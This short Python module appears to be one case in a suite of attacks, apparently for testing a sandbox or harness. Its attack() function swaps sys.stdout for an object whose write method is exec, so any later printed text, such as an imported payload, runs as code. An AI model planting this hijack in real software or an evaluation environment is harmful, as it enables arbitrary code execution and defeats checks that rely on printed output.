"""What is printed is executed: exec() is what sys.stdout writes with."""
CATEGORY = "deferred"
REACH = "run"

import sys
import types

from . import payload

TEXT = payload.SOURCE


def attack():
    vars(sys)["stdout"] = types.SimpleNamespace(write=exec, flush=int)
